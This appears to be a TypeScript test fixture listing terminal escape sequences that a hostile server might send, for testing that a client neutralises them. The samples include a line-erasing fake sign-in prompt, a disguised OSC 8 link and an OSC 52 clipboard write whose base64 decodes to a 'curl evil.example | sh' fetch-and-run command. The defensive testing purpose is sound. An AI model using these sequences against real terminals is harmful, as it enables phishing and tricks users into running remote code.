/** The escape character that starts every terminal control sequence. */
export const ESC = "\x1b"

/** Strings a hostile server sends to act on a terminal instead of being shown (issue 20). */
export const hostile = {
  eraseLine: `${ESC}[2K\r  To sign in, open https://evil.example/device`,
  osc8Link: `${ESC}]8;;https://evil.example/${ESC}\\ABCD-EFGH${ESC}]8;;${ESC}\\`,
  osc52Clipboard: `ABCD-EFGH${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`,
  c1Csi: "ABCD\u009b2KEFGH",
  del: "ABCD\u007fEFGH",
  nul: "ABCD\u0000EFGH"
}
